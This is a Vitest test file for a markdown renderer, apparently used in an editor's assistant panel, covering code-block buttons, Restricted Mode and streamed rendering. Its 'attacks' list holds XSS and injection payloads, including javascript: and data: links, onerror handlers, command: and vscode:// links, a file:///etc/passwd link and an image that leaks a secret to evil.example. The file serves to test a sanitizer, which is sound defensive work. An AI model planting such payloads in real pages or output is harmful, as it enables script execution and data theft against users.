// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { lastBlockStart, renderMarkdown } from './markdown.ts';

function render(text: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderMarkdown(text);
  return element;
}

describe('renderMarkdown', () => {
  it('renders what answers are made of', () => {
    const page = render('# Title\n\nSome **bold** `code`.\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |');
    expect(page.querySelector('h1')?.textContent).toBe('Title');
    expect(page.querySelectorAll('li')).toHaveLength(2);
    expect(page.querySelector('td.align-right')?.textContent).toBe('2');
    expect(page.innerHTML).not.toContain('style=');
  });

  it('gives code a language, colours and buttons', () => {
    const page = render('```ts\nconst x = 1;\n```');
    expect(page.querySelector('.code-language')?.textContent).toBe('ts');
    expect(page.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect([...page.querySelectorAll('button')].map((button) => button.dataset['action'])).toEqual([
      'copy',
      'insert',
      'apply',
      'open',
    ]);
    expect(page.querySelector('pre code')?.textContent).toBe('const x = 1;\n');
  });

  it('keeps what stands behind the fence, as text', () => {
    const page = render('```ts src/"<b>.ts\nx\n```');
    expect(page.querySelector<HTMLElement>('.code-block')?.dataset['info']).toBe('ts src/"<b>.ts');
    expect(page.querySelector('b')).toBeNull();
  });

  it('disables Apply in Restricted Mode, with the reason', () => {
    const element = document.createElement('div');
    element.innerHTML = renderMarkdown('```\nx\n```', undefined, true);
    const button = element.querySelector('[data-action=apply]');
    expect(button?.getAttribute('aria-disabled')).toBe('true');
    expect(button?.getAttribute('aria-label')).toMatch(/Restricted Mode/u);
  });

  it('shows code of unknown languages as it is', () => {
    expect(render('```brainfuck\n<+>&\n```').querySelector('code')?.textContent).toBe('<+>&\n');
  });

  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><button type="submit" formaction="javascript:alert(1)">x</button></form>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](vbscript:msgbox)',
    '[x](command:workbench.action.terminal.new)',
    '[x](vscode://evil.extension/run)',
    '[x](file:///etc/passwd)',
    '![x](https://evil.example/leak?secret)',
    '![x](x" onerror="alert(1))',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '```js onmouseover=alert(1)\ncode\n```',
    '```html\n<script>alert(1)</script>\n```',
    '<div data-action="open">x</div>',
    '`<img src=x onerror=alert(1)>`',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<b\n>x</b onclick=alert(1)>',
    '[x](https://a.example "\\" onclick=\\"alert(1)")',
  ];
  it.each(attacks)('lets nothing through: %s', (attack) => {
    const page = render(attack);
    expect(
      page.querySelector('script, img, svg, iframe, style, form, input, object, embed, base, meta, link'),
    ).toBeNull();
    for (const element of page.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src|^formaction$/);
        if (name === 'href') expect(value).toMatch(/^(https?|mailto):/);
      }
    }
    // Only our own code blocks have buttons.
    const buttons = [...page.querySelectorAll('[data-action]')];
    expect(buttons.every((button) => button.closest('.code-header') !== null)).toBe(true);
  });
});

describe('lastBlockStart', () => {
  const cases: [string, string][] = [
    ['', ''],
    ['one', 'one'],
    ['one\n\ntwo', 'two'],
    ['one\n\n```js\na\n\nb', '```js\na\n\nb'],
    ['- a\n\n- b', '- a\n\n- b'],
    ['# T\ntext\nmore', 'text\nmore'],
    ['> q\n\n| a |\n|---|\n| 1 |', '| a |\n|---|\n| 1 |'],
  ];
  it.each(cases)('finds the block that may still change: %j', (text, last) => {
    expect(text.slice(lastBlockStart(text))).toBe(last);
  });

  it('gives the same page as rendering all at once, however the text is cut', () => {
    const text = '# A\n\nText *with* `code`.\n\n1. one\n2. two\n\n```py\nx = 1\n\ny = 2\n```\n\n> quote\n\nend';
    for (let cut = 0; cut <= text.length; cut++) {
      const start = lastBlockStart(text.slice(0, cut));
      expect(renderMarkdown(text.slice(0, start)) + renderMarkdown(text.slice(start))).toBe(renderMarkdown(text));
    }
  });
});
